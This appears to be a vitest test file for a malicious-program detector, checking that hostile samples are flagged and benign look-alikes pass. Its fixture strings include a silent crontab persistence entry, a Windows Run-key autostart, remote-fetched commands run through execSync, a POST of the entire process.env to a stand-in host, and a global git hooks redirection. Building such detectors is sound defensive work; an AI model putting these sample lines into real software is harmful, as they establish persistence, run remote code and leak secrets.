import { expect, test } from "vitest";
import { held } from "./analyse.ts";
import { FOLLOWED_MALICIOUS } from "./followed-programs.ts";
import { HONEST } from "./honest-programs.ts";
import { LINE_MALICIOUS } from "./line-programs.ts";

const titled = (programs: [string, string][]): [string, string, string][] =>
  programs.map(([path, text], index) => [`${index + 1} ${path}`, path, text]);

test.each(titled([...LINE_MALICIOUS, ...FOLLOWED_MALICIOUS]))(
  "a program is held by what it does: %s",
  async (_, path, text) => {
    expect(await held(path, text)).not.toEqual([]);
  },
);

test.each(titled(HONEST))("ordinary work is not held: %s", async (_, path, text) => {
  expect(await held(path, text)).toEqual([]);
});

/** Of each concept, what is held and what resembles it. */
const PAIRS: [string, string, string, string][] = [
  [
    "a mark in a question",
    "a.sh",
    '(crontab -l; echo "* * * * * ~/.x/a") | crontab -',
    'line="0 3 * * * ~/bin/backup"\nprintf "%s\\n" "$line"\nread -rp "Add it? [y/N] " answer\n[[ $answer == y ]] || exit 0\n{ crontab -l; echo "$line"; } | crontab -\n',
  ],
  [
    "keys of a start that are only looked at",
    "a.ps1",
    "New-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name a -Value 'C:\\x.exe'",
    "Get-Item 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' | Format-Table",
  ],
  [
    "a command that a table holds, and one that a peer writes",
    "a.mjs",
    "import { execSync } from 'node:child_process';\nconst job = await (await fetch('https://a.example/job')).json();\nexecSync(job.line);",
    "import { execFileSync } from 'node:child_process';\nconst table = { a: ['git', ['status']] };\nconst job = await (await fetch('https://a.example/job')).json();\nconst [program, args] = table[job.kind];\nexecFileSync(program, args);",
  ],
  [
    "the environment as a whole, and one of it",
    "a.js",
    "const all = { ...process.env, MODE: 'x' };\nfetch('https://a.example', { method: 'POST', body: JSON.stringify(all) });",
    "const all = { ...process.env, MODE: 'x' };\nfetch('https://a.example', { method: 'POST', body: JSON.stringify({ mode: all.MODE, ref: all.GIT_REF }) });",
  ],
  [
    "a hook for every repository, and for one",
    "a.sh",
    "git config --global core.hooksPath ~/.cache/h",
    "git config core.hooksPath .githooks",
  ],
];

test.each(PAIRS)("%s", async (_, path, malicious, honest) => {
  expect(await held(path, malicious)).not.toEqual([]);
  expect(await held(path, honest)).toEqual([]);
});
